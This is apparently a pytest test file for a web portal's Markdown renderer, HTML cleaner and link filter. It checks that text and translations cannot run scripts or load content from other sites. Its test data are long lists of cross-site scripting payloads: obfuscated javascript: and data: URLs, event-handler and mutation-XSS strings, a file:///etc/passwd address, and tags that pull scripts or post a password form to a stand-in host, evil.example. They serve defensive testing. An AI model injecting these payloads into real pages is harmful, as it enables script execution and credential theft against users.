"""Nothing that is written in a text can run on a page, or fetch anything from another site."""

import re
from collections.abc import Iterator
from html import unescape

import pytest
from bs4 import BeautifulSoup, Tag
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.translate.segments import Passage, cut, render
from portal.web.markdown import allowed_address, clean

# fmt: off
# What Markdown makes; anything else was smuggled in.
TAGS = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "img",
    "li", "ol", "p", "pre", "section", "span", "strong", "sup", "table", "tbody", "td", "th",
    "thead", "tr", "ul",
}
ATTRIBUTES = {
    "alt", "class", "dir", "height", "href", "hreflang", "id", "lang", "loading", "scope", "src",
    "start", "tabindex", "title", "width",
}
# fmt: on
SCHEMES = {"http", "https", "mailto", "tel"}

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript\t:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "%6aavascript:alert(1)",
    "\\javascript:alert(1)",
    "javascript\\:alert(1)",
    "ｊavascript:alert(1)",
    "\u00adjavascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\u2028javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "about:blank",
    "view-source:https://evil.example",
    "intent://evil.example#Intent;end",
    "jar:https://evil.example!/x",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "\t//evil.example",
    "&#47;/evil.example",
    "&sol;&sol;evil.example",
    "https:evil.example",
    "http:/evil.example",
    "https:\\\\evil.example",
    "x:y",
]

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/track.gif>",
    "<img src=//evil.example/track.gif>",
    "<img srcset='https://evil.example/x 1x' src=/x>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></use></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)></style></mglyph></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  JAVASCRIPT:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<a href=/ onclick=alert(1)>x</a>",
    "<a href='/' style='background:url(https://evil.example)'>x</a>",
    "<a href='/' ping='https://evil.example'>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video poster=https://evil.example/x src=https://evil.example/y></video>",
    "<audio src=https://evil.example/x autoplay onplay=alert(1)></audio>",
    "<body onload=alert(1) background=https://evil.example/x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=https://evil.example/x><tr><td background=//evil.example>x</td></tr></table>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "<img name=body id=body src=/x>",
    "<",
    '<img src="x` `<script>alert(1)</script>"` `>',
]

LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "<{}>",
    "![x]({})",
    "![x](<{}>)",
    "[![y]({})](/ok)",
    "[![y](/ok)]({})",
    "| a |\n|-|\n| [x]({}) |",
    "# [x]({})",
    "- [x]({})",
    "> [x]({})",
    "x[^1]\n\n[^1]: [x]({})",
    '[x]({} "t")',
    '[x](/ok "{}")',
    "{}",
    "`{}`",
]
NO_WORD = re.compile(r"\W")
PLACES = [
    "{}",
    "**{}**",
    "> {}",
    "- {}",
    "| a |\n|-|\n| {} |",
    "`{}`",
    "# {}",
    "[{}](/ok)",
    "![{}](/ok)",
]


def shown(markdown: str) -> str:
    """Give a text as a page shows it; every portal link leads to a page."""
    return render(markdown, [None] * len(cut(markdown)), "fr", "fr", lambda link: "/fr/a/")


def elements(html: str) -> Iterator[Tag]:
    """Give every element a browser would make, and a simpler parser too."""
    for parser in ("html5lib", "html.parser"):
        soup = BeautifulSoup(f"<main>{html}</main>", parser)
        yield from soup.select("main *, head *")
        yield from soup.select("body > :not(main)")


def as_browsers_read(address: str) -> str:
    """Give an address without what browsers leave out, and with the slashes they see."""
    return re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(33))))).replace("\\", "/")


def scheme_of(address: str) -> str:
    """Give the scheme of an address in small letters, or nothing."""
    scheme = re.match(r"[a-z][a-z0-9+.-]*(?=:)", as_browsers_read(address), re.IGNORECASE)
    return scheme[0].lower() if scheme else ""


def runs(address: str) -> bool:
    """Tell whether an address could be a script, or anything but a page, mail or call."""
    return scheme_of(address) not in SCHEMES | {""}


def is_elsewhere(address: str) -> bool:
    """Tell whether an address names another site without a scheme."""
    return as_browsers_read(address).startswith("//")


def dangers(html: str) -> list[str]:
    """List what could run, or be fetched from elsewhere."""
    found = []
    for element in elements(html):
        attributes = {name: str(value) for name, value in element.attrs.items()}
        link, picture = attributes.get("href", ""), attributes.get("src", "")
        is_ours = element.name in TAGS and attributes.keys() <= ATTRIBUTES
        is_astray = runs(link) or is_elsewhere(link) or is_elsewhere(picture)
        if not is_ours or is_astray or scheme_of(picture):
            found.append(str(element))
    return found


# In a text


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_address_in_a_text_runs_or_fetches(address: str) -> None:
    for link in LINKS:
        assert dangers(shown(link.format(address))) == [], link


@pytest.mark.parametrize("html", HTML)
def test_html_in_a_text_is_harmless(html: str) -> None:
    for place in PLACES:
        assert dangers(shown(place.format(html))) == [], place


@pytest.mark.parametrize("html", HTML)
def test_html_in_a_text_is_shown_as_it_was_typed(html: str) -> None:
    typed = NO_WORD.sub("", unescape(html))
    assert NO_WORD.sub("", BeautifulSoup(shown(html), "html5lib").text) == typed


@pytest.mark.parametrize("address", ADDRESSES)
def test_the_addresses_of_a_translation_are_checked_too(address: str) -> None:
    passage = Passage("[testo](1)", "it", {"1": address})
    assert dangers(render("[texte](/fr/)", [passage], "it", "fr")) == []


@pytest.mark.parametrize("html", HTML)
def test_the_words_of_a_translation_are_harmless(html: str) -> None:
    for text in (html, f"[x]({html})", f"**{html}**", f"\\{html}", f"`{html}"):
        assert dangers(render("Un texte.", [Passage(text, "it")], "fr", "fr")) == []
        assert dangers(render("![Un texte](/x.png)", [Passage(text, "it")], "fr", "fr")) == []


@pytest.mark.parametrize("language", ['"><script>alert(1)</script>', "it onclick=alert(1)"])
def test_the_language_of_a_passage_is_escaped(language: str) -> None:
    assert dangers(render("Un texte.", [Passage("x", language)], "fr", "fr")) == []


# HTML as such


@pytest.mark.parametrize("html", HTML)
def test_html_is_cleaned(html: str) -> None:
    assert dangers(clean(html)) == []


@pytest.mark.parametrize("place", ['<a href="{}">x</a>', "<a href='{}'>x</a>", '<img src="{}">'])
def test_an_address_in_html_is_cleaned(place: str) -> None:
    for address in ADDRESSES:
        assert dangers(clean(place.format(address))) == [], address


# Addresses


@pytest.mark.parametrize("address", ADDRESSES)
def test_a_hostile_address_is_not_allowed(address: str) -> None:
    assert allowed_address(address, None) is None


@pytest.mark.parametrize(
    "address",
    [
        "/",
        "/fr/aide/",
        "/fr/?q=a#b",
        "#note",
        "https://example.org/a?b=c",
        "https://example.org/(a)",
        "HTTP://example.org",
        "mailto:ada@example.org",
        "tel:+33478000000",
    ],
)
def test_an_honest_address_is_allowed(address: str) -> None:
    assert allowed_address(address, None) == address
    link = BeautifulSoup(shown(f"[x](<{address}>)"), "html.parser").select("a")
    assert [each["href"] for each in link] == [address]


def test_a_link_of_the_portal_leads_where_the_portal_says() -> None:
    assert allowed_address("page:history", {"page:history": "/fr/a/"}.get) == "/fr/a/"
    assert allowed_address("page:nothing", {"page:history": "/fr/a/"}.get) is None
    assert allowed_address("page:history", None) is None


@pytest.mark.parametrize("address", ["javascript:alert", "data:text", "vbscript:a", "file:etc"])
def test_a_script_is_no_link_of_the_portal(address: str) -> None:
    known = {"page:history": "/fr/a/"}.get
    assert allowed_address(address, known) is None


def test_the_words_of_a_link_that_leads_nowhere_stay() -> None:
    assert "<a" not in shown("Avant [les **mots**](javascript:a) après")
    assert "les <strong>mots</strong>" in shown("Avant [les **mots**](javascript:a) après")


def test_a_picture_of_another_site_is_its_words() -> None:
    html = shown("Avant ![les mots](https://evil.example/x.png) après")
    assert "<img" not in html
    assert "Avant les mots après" in html


def test_a_picture_of_this_site_is_shown_with_its_words() -> None:
    picture = BeautifulSoup(shown("![les mots](/media/x.png)"), "html.parser").select("img")
    assert [(each["src"], each["alt"]) for each in picture] == [("/media/x.png", "les mots")]


def test_no_class_id_or_name_of_the_page_can_be_taken() -> None:
    page = BeautifulSoup(shown('<p id="content" class="btn" name="x">a</p>'), "html.parser")
    assert page.select("[id], [class], [name]") == []


# Everything at once

hostile = st.lists(
    st.sampled_from([*ADDRESSES, *HTML, *'[]()!<>`|*_#\n"', "](", "![", "\n\n", "[x](", "[^1]"])
    | st.text(max_size=3),
    max_size=8,
).map("".join)


@settings(max_examples=3000, deadline=None)
@given(hostile)
def test_no_mixture_in_a_text_runs_or_fetches(text: str) -> None:
    for markdown in (text, f"[x]({text})", f"![x](<{text}>)"):
        assert dangers(shown(markdown)) == []


@settings(max_examples=3000, deadline=None)
@given(hostile)
def test_no_mixture_of_html_runs_or_fetches(html: str) -> None:
    assert dangers(clean(html)) == []
